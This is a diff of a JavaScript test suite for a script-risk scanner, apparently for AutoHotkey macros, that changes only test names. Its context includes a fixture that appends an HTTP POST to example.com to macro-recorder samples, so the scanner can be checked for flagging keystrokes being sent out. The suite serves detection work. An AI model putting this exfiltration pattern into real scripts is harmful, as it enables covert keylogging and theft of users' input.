@@ -19,7 +19,7 @@ describe('each dangerous script is flagged with the right risk', () => {
   });
 });
 
-describe('a harmless script raises no alarm', () => {
+describe('a harmless script is not flagged', () => {
   test.each(readdirSync(join(SAMPLES, 'innocent')))('%s', (name) => {
     expect(risksOf('innocent', name)).toEqual([]);
   });
@@ -58,7 +58,7 @@ describe('a macro recorder with a window and a save dialog', () => {
   const post =
     'http := ComObject("WinHttp.WinHttpRequest.5.1")\nhttp.Open("POST", "https://example.com")\nhttp.Send("x")\n';
   test.each(names)(
-    'is a danger once it sends keystrokes, hides, starts on its own, or picks its own file: %s',
+    'is flagged as dangerous once it uploads keystrokes, hides, starts on its own, or chooses its own file: %s',
     (name) => {
       const source = sourceOf(name);
       expect(dangersIn(`${source}\n${post}`)).toContain('keystrokes-sent');
